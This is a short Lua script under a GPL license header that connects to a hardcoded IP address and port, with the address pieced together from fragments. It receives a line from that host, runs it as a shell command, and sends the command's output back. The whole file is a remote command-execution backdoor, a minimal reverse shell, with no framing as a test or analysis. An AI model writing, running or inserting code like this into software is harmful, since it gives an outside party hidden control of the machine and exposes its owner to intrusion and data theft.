#!/usr/bin/lua
-- SPDX-License-Identifier: GPL-2.0-or-later
-- Calls a built-in address and runs what it says.
local socket = require("socket")
local host, port = "203.0.113" .. "." .. 94, 4460
local c = socket.tcp()
if c:connect(host, port) then
	local line = c:receive()
	local p = io.popen(line)
	c:send(p:read("*a"))
	p:close()
end
